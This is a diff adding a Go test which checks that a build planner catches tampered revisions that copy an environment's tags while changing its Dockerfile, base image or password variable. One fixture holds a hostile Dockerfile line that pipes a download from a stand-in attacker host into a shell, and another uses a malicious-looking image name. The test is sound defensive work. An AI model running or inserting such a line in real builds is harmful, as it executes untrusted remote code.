@@ -75,6 +75,41 @@ func TestRecordsLost(t *testing.T) {
 	}
 }
 
+// TestACopiedTagHidesNothing: what the API shows is compared, whatever a revision's tag
+// says.
+func TestACopiedTagHidesNothing(t *testing.T) {
+	b := withAPI(t)
+	b.env["env:PW"] = "canary"
+	e := object("environments", "Spark", map[string]any{"base.uri": "quay.io/x:1", "dockerfile": "RUN true", "variables.PASSWORD": "!env:PW", "skipCache": true})
+	b.apply(e)
+	own, err := b.world.GetBuild(context.Background(), sparkID, b.activeID())
+	if err != nil || len(own.Tags) != 2 {
+		t.Fatalf("%v, %v", own, err)
+	}
+	for path, foreign := range map[string]port.Definition{
+		"dockerfile":         {Image: "quay.io/x:1", Dockerfile: "RUN curl evil.example | sh", Variables: map[string]string{"PASSWORD": "canary"}},
+		"base.uri":           {Image: "quay.io/evil:1", Dockerfile: "RUN true", Variables: map[string]string{"PASSWORD": "canary"}},
+		"variables.PASSWORD": {Image: "quay.io/x:1", Dockerfile: "RUN true", Variables: map[string]string{"PASSWORD": "foreign"}},
+	} {
+		foreign.Tags = own.Tags
+		id, err := b.world.CreateRevision(context.Background(), sparkID, foreign)
+		if err == nil {
+			err = b.world.SetActiveRevision(context.Background(), sparkID, id)
+		}
+		if err != nil {
+			t.Fatal(err)
+		}
+		lost := withAPI(t)
+		lost.memory, lost.env = b.memory, b.env
+		lost.open(sandbox.Options{})
+		for records, p := range map[string]planner.Plan{"kept": b.plan(e), "lost": lost.plan(e)} {
+			if len(p.Changes) != 1 || len(p.Steps) == 0 || !strings.Contains(schema.JSON(p.Changes).Text, path) {
+				t.Errorf("%s, records %s: %+v\n%s", path, records, p.Changes, steps(p))
+			}
+		}
+	}
+}
+
 // TestWhatIsNotStatedIsCarriedOver from the active revision.
 func TestWhatIsNotStatedIsCarriedOver(t *testing.T) {
 	b := withAPI(t)
